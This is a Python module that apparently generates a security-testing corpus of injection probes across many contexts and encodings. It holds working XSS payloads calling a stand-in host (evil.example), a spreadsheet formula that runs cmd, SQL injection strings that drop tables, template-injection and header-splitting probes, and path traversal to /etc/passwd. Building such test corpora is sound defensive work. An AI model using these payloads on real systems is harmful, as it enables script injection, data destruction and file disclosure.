"""Some thousand strings that would like to be more than text: contexts × encodings, for every place."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

FOREIGN = "evil.example"
ADDED = 62_615_533  # 7919 × 7907: stands on a page only if a template has worked it out
_RUN = "top.ran=1;alert(1);fetch('//evil.example/1')"

CONTEXTS: dict[str, tuple[str, ...]] = {
    "html": (
        f"<script>{_RUN}</script>",
        f"<img src=x onerror={_RUN}>",
        f"<svg onload={_RUN}>",
        f"<svg/onload={_RUN}//",
        f"</title></textarea></style><script>{_RUN}</script>",
        f"<!--><script>{_RUN}</script>-->",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
        f"<details open ontoggle={_RUN}>x",
        f"<iframe srcdoc='<script>{_RUN}</script>'>",
        "<base href=//evil.example/>",
        "<link rel=stylesheet href=//evil.example/>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'>",
        "<form action=//evil.example/><button>x",
        f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
        "<plaintext>",
        "]]><![CDATA[x",
        "<?xml version='1.0'?>",
    ),
    "attribute": (
        f'" onmouseover="{_RUN}',
        f"' autofocus onfocus='{_RUN}",
        f'"><svg onload={_RUN}>',
        f"`onfocus={_RUN} autofocus=`",
        f'x" style="background:url(//evil.example)" onclick="{_RUN}',
    ),
    "url": (
        f"javascript:{_RUN}",
        f"JaVaScRiPt&colon;{_RUN}",
        f" \tjavascript:{_RUN}",
        f"data:text/html,<script>{_RUN}</script>",
        "//evil.example/x",
        "http://evil.example/x",
        "\\\\evil.example\\x",
        "/\\evil.example",
        "vbscript:msgbox(1)",
        "http://user:secret@127.0.0.1:1/",
        "http://evil.example#@127.0.0.1/",
        "file:///etc/passwd",
    ),
    "script": (
        f"</script><script>{_RUN}</script>",
        f"</SCRIPT ><svg onload={_RUN}>",
        f"';{_RUN};//",
        f'";{_RUN};//',
        f"\\';{_RUN};//",
        f"<!--<script>{_RUN}",
        "\u2028alert(1)\u2029",
        f"*/{_RUN}/*",
        "__proto__",
        "constructor.prototype",
        "toString",
    ),
    "json_ld": (
        '"}],"@type":"Person","x":[{"',
        "\\u003c/script\\u003e",
        "\\",
        '"\\',
        "NaN",
        '{"@context":"//evil.example"}',
    ),
    "formula": (
        '=HYPERLINK("http://evil.example","x")',
        "=1+1|cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\uff1d1+1",
        ";=1+1",
        '",=1+1,"',
        "%=1+1",
    ),
    "header": (
        "x\r\nX-Evil: 1",
        "x\nSet-Cookie: evil=1",
        "x\r\n\r\n<script>alert(1)</script>",
        "\u560a\u560dX-Evil: 1",
        "x\x0bX-Evil: 1",
    ),
    "template": (
        "{{ 7919*7907 }}",
        "{% for x in range(9) %}{{ x }}{% endfor %}",
        "{{ config }}",
        "{{ ''.__class__.__mro__ }}",
        "{#x",
        "${7919*7907}",
        "#{7919*7907}",
        "<%= 7919*7907 %>",
        "{0.__class__}",
        "%(name)s",
        "%s%n%x",
        "{{",
        "}}",
        "{%",
    ),
    "svg": (
        f"<svg><animate onbegin={_RUN} attributeName=x>",
        f"<svg><a xlink:href=javascript:{_RUN}><text>x",
        f"<svg><foreignObject><script>{_RUN}</script>",
        "<svg><use href=//evil.example/x#x>",
        "<svg><style>@import'//evil.example'",
    ),
    "css": (
        "</style><script>alert(1)</script>",
        "}body{background:url(//evil.example)}",
        "expression(alert(1))",
        "@import '//evil.example'",
        "\\3c script\\3e",
        "red;background:url(//evil.example/1)",
    ),
    "bidi": (
        "\u202egnp.exe",
        "\u2066\u202eabc\u2069",
        "a\u200bb\u200cc\u200dd",
        "\ufeffx",
        "\u200f\u200e",
        "\u0301\u0301\u0301",
        "\U000e0041",
        "\ufff9x\ufffb",
    ),
    "bytes": (
        "a\x00b",
        "\x00",
        "\ud800",
        "\udfff\ud800x",
        "\x1b[31m",
        "\x7f\x08",
        "\ufffe\uffff",
        "\x85\xa0",
        "字" * 3000,
        "<" * 4000,
        "%" * 500,
        "\U0010ffff",
    ),
    "query": (
        '"',
        "'",
        "a AND",
        "NEAR(a b)",
        "title:x",
        "^x",
        "x*",
        "(",
        "a OR 1=1",
        "' OR '1'='1",
        '"; DROP TABLE reports;--',
        "'); DELETE FROM search_index;--",
        '" UNION SELECT name FROM sqlite_master--',
        "-",
        "--",
        "－",
        '-"',
        '""',
        "“”",
        "“",
        "-x -y",
        "*",
        "{x}:y",
        "a+b",
        "\\",
        "%_%",
        "，。；",
        'x" NEAR "y',
        "AND OR NOT",
        "\u3000",
    ),
    "path": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "/etc/passwd",
        "C:\\",
        ".",
        "..",
        "./",
        "//",
        "~root",
        "a/../../b",
        "x;.html",
        "x.json",
        ".csv",
        "x.atom/",
        "CON",
        "..;/",
        "%2e%2e%2f",
        "archive.db",
        "payloads.db-wal",
        "%00.html",
    ),
}


def _percent(text: str) -> str:
    return quote(text.encode("utf-8", "surrogatepass"), safe="")


def _entities(text: str) -> str:
    return "".join(f"&#{ord(one)};" for one in text)


def _hex_entities(text: str) -> str:
    return "".join(f"&#x{ord(one):07x}" for one in text)


def _utf7(text: str) -> str:
    return text.encode("utf-16-le", "surrogatepass").decode("utf-16-le", "replace").encode("utf-7").decode("ascii")


def _overlong(text: str) -> str:
    """ASCII signs in two bytes, which UTF-8 forbids (RFC 3629, 3): ``<`` as %C0%BC."""
    signs = "<>\"'/\\.%=&\r\n\x00"
    return "".join(f"%{0xC0 | ord(one) >> 6:02X}%{0x80 | ord(one) & 63:02X}" if one in signs else one for one in text)


def _full_width(text: str) -> str:
    """What NFKC turns back into ASCII."""
    return "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in text)


def _mixed_case(text: str) -> str:
    return "".join(one.upper() if at % 2 else one.lower() for at, one in enumerate(text))


ENCODINGS: dict[str, Callable[[str], str]] = {
    "raw": str,
    "percent": _percent,
    "double_percent": lambda text: _percent(_percent(text)),
    "entities": _entities,
    "hex_entities": _hex_entities,
    "utf7": _utf7,
    "overlong": _overlong,
    "full_width": _full_width,
    "mixed_case": _mixed_case,
    "amid_han": lambda text: f"示例{text}县",
}


def every_string(seed: int = 1) -> tuple[str, ...]:
    """All of them, each once, in an order that is the same for a seed."""
    made = dict.fromkeys(encode(text) for _, text in _probes() for encode in ENCODINGS.values())
    strings = list(made)
    random.Random(seed).shuffle(strings)
    return tuple(strings)


def raw_strings() -> tuple[str, ...]:
    """The probes themselves."""
    return tuple(text for _, text in _probes())


def _probes() -> Iterator[tuple[str, str]]:
    return ((context, text) for context, texts in CONTEXTS.items() for text in texts)
